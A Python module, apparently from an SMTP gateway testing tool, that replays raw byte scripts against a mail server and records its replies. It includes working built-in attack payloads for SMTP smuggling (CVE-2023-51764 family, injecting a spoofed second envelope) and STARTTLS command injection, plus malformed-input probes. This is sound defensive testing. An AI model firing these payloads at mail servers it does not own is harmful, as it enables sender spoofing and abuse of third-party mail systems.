"""Raw mode: send exact byte sequences to an SMTP server and record whatever comes back.

Owns: the raw script format (`--raw-file`), the built-in named attacks from the adversarial
spec (SMTP smuggling CVE-2023-51764 family, STARTTLS injection CVE-2011-0411, pregreeting,
HTTP on the SMTP port, over-long lines), and running a script over a `Wire`.

Must not know: what the server *should* answer — raw mode records, a test or a human judges.
Nothing here fixes up the bytes: bare CR, bare LF and NUL go out exactly as written.

Script format (one step per line; the file's own line ends are never sent):
    # comment                      ignored
    <wait>                         only read replies
    EHLO x\\r\\n                      sent with escapes \\r \\n \\t \\0 \\xHH \\\\ decoded
"""

from __future__ import annotations

import time
from dataclasses import dataclass
from typing import Callable

from mxgate.probe.client import ProbeOptions, TranscriptLine, build_proxy_header
from mxgate.probe.wire import Wire, WireError

# How long the server may stay silent before a step counts as answered. Short, because
# refusals of malformed input are immediate; a silent server is itself a finding.
DEFAULT_SETTLE = 0.5
WAIT = b""  # a step that sends nothing and only collects replies


@dataclass(frozen=True)
class RawScript:
    steps: tuple[bytes, ...]
    read_greeting: bool = True  # False for pregreet tests: talk before the banner


@dataclass(frozen=True)
class RawResult:
    transcript: tuple[TranscriptLine, ...]
    replies: tuple[tuple[int, ...], ...]  # reply codes seen after each step (greeting first)
    closed_by_server: bool
    error: str | None
    duration: float


def decode_escapes(text: str) -> bytes:
    """`EHLO x\\r\\n` → b"EHLO x\\r\\n"; latin-1 keeps every byte value reachable."""
    return text.encode("latin-1", "backslashreplace").decode("unicode_escape").encode("latin-1")


def show_bytes(data: bytes) -> str:
    """Bytes as one visible line: CR, LF and control bytes escaped, so smuggling is seen."""
    return data.decode("latin-1").encode("unicode_escape").decode("ascii")


def parse_raw_file(text: str) -> RawScript:
    steps = []
    for line in text.splitlines():
        if not line.strip() or line.lstrip().startswith("#"):
            continue
        steps.append(WAIT if line.strip() == "<wait>" else decode_escapes(line))
    return RawScript(tuple(steps))


def _hello(o: ProbeOptions) -> bytes:
    return f"EHLO {o.ehlo}\r\n".encode()


def _envelope(o: ProbeOptions) -> bytes:
    rcpt = o.rcpt_to[0] if o.rcpt_to else "postmaster"
    return f"MAIL FROM:<{o.mail_from}>\r\nRCPT TO:<{rcpt}>\r\n".encode()


def _smuggle(seq: bytes) -> Callable[[ProbeOptions], RawScript]:
    """adversarial.md §2: a second envelope hidden behind a non-standard end-of-data."""
    def build(o: ProbeOptions) -> RawScript:
        rcpt = (o.rcpt_to[0] if o.rcpt_to else "postmaster").encode()
        hidden = (b"Subject: s\r\n\r\nbody" + seq + b"MAIL FROM:<ceo@bank.example>\r\nRCPT TO:<"
                  + rcpt + b">\r\nDATA\r\n\r\nsmuggled\r\n.\r\n")
        return RawScript((_hello(o), _envelope(o), b"DATA\r\n", hidden, b"QUIT\r\n"))
    return build


# name → sequence, as listed in adversarial.md §2 (CVE-2023-51764 family).
SMUGGLE_SEQUENCES = {
    "lf": b"\n.\n", "lf-crlf": b"\n.\r\n", "crlf-lf": b"\r\n.\n", "cr": b"\r.\r",
    "cr-crlf": b"\r.\r\n", "crlf-cr": b"\r\n.\r", "cr-lf": b"\r.\n", "lf-cr": b"\n.\r",
    "nul": b"\r\n\x00.\r\n",
}

ATTACKS: dict[str, Callable[[ProbeOptions], RawScript]] = {
    **{f"smuggle-{name}": _smuggle(seq) for name, seq in SMUGGLE_SEQUENCES.items()},
    # CVE-2011-0411 / CVE-2024-34083: a command pipelined behind STARTTLS in one write.
    "starttls-inject": lambda o: RawScript((_hello(o), b"STARTTLS\r\nMAIL FROM:<evil@x>\r\n", WAIT)),
    "pregreet": lambda o: RawScript((_hello(o), WAIT), read_greeting=False),
    "http-get": lambda o: RawScript((b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", WAIT)),
    # RFC 5321 §4.5.3.1.4: command lines are at most 512 octets including CRLF.
    "long-line": lambda o: RawScript((b"EHLO " + b"a" * 600 + b"\r\n", b"QUIT\r\n")),
    "bare-cr-ehlo": lambda o: RawScript((b"EHLO a\rb\r\n", b"QUIT\r\n")),
    "unknown-commands": lambda o: RawScript(tuple(b"XYZZY\r\n" for _ in range(12)) + (b"QUIT\r\n",)),
}


async def run_raw(opts: ProbeOptions, script: RawScript, settle: float = DEFAULT_SETTLE) -> RawResult:
    """Connect as `opts` says (source address, PROXY header), play `script`, record replies."""
    started = time.monotonic()
    lines: list[TranscriptLine] = []
    replies: list[tuple[int, ...]] = []

    def note(direction: str, text: str) -> None:
        lines.append(TranscriptLine(round(time.monotonic() - started, 6), direction, text))

    def done(error: str | None, closed: bool) -> RawResult:
        if error:
            note("*", f"error: {error}")
        return RawResult(tuple(lines), tuple(replies), closed, error,
                         round(time.monotonic() - started, 6))

    try:
        wire = await Wire.open(opts.host, opts.port, timeout=opts.timeout, note=note,
                               source_address=opts.source_address)
    except WireError as exc:
        return done(str(exc), False)
    try:
        if opts.proxy_source:
            header = build_proxy_header(opts, wire.sockname, wire.peername)
            note("C", show_bytes(header))
            await wire.write(header)
        if script.read_greeting:
            codes, closed = await _collect(wire, note, opts.timeout, settle)
            replies.append(codes)
            if closed:
                return done(None, True)
        for step in script.steps:
            if step:
                note("C", show_bytes(step))
                await wire.write(step)
            codes, closed = await _collect(wire, note, settle, settle)
            replies.append(codes)
            if closed:
                note("*", "server closed the connection")
                return done(None, True)
        return done(None, False)
    except (WireError, ValueError) as exc:
        return done(str(exc), False)
    finally:
        await wire.close()


async def _collect(wire: Wire, note: Callable[[str, str], None], first: float,
                   settle: float) -> tuple[tuple[int, ...], bool]:
    """Read lines until the server is quiet for `settle` seconds (`first` for the first line)."""
    codes: list[int] = []
    wait = first
    while True:
        try:
            raw = await wire.read_line(timeout=wait)
        except WireError as exc:
            return tuple(codes), not exc.timed_out
        note("S", raw.decode("utf-8", "backslashreplace").rstrip("\r\n"))
        if raw[:3].isdigit() and raw[3:4] in (b" ", b"\r", b"\n", b""):
            codes.append(int(raw[:3]))  # only final lines of a reply count as a code
        wait = settle
